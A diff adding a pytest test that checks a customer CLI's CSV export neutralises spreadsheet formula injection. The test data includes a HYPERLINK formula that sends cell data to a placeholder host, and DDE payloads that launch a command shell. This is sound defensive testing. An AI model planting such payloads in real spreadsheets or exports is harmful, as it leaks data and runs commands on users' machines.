@@ -8,7 +8,7 @@ import pytest
 from bulk.customers import write_csv
 from cli.conftest import Command
 
-from wonder_customers.bulk import Journal
+from wonder_customers.bulk import Journal, sources
 from wonder_customers.cli import progress
 from wonder_customers.cli.exit_codes import FAILED, USAGE
 from wonder_customers.simulator.server import SimulatorServer
@@ -124,6 +124,20 @@ def test_ids_are_exported_as_csv(at_simulator: Command, folder: Path) -> None:
     assert (folder / "ids.csv").read_text(encoding="utf-8").splitlines() == out.splitlines()
     code, _, err = at_simulator("ids", "c.csv.monri.journal", "-o", "ids.csv")
     assert (code, "ids.csv already exists" in err) == (USAGE, True)
+
+
+def test_exported_references_are_no_formulas(at_simulator: Command, folder: Path) -> None:
+    formulas = ['=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3", "=1*1"]
+    unchanged = ["+385 91 234-567", "-12", "c-1", "O'Neil"]
+    with (folder / "c.csv").open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["reference", "name"], *([it, "Ada Lovelace"] for it in formulas + unchanged)])
+    assert at_simulator("sync", "c.csv", "--to", "monri")[0] == 0
+    assert at_simulator("ids", "c.csv.monri.journal", "-o", "ids.csv")[0] == 0
+    written = [row["reference"] for row in csv.DictReader((folder / "ids.csv").read_text("utf-8").splitlines())]
+    assert sorted(written) == sorted([f"'{it}" for it in formulas] + unchanged)
+    assert {row.reference for row in sources.read(folder / "ids.csv", unknown="ignore")} == {*formulas, *unchanged}
+    assert at_simulator("forget", "c.csv.monri.journal", "--", "-2+3")[0] == 0
+    assert "-2+3" not in (folder / "ids.csv").read_text("utf-8")
 
 
 @pytest.mark.parametrize("name", ["resume", "verify", "retry-failed"])
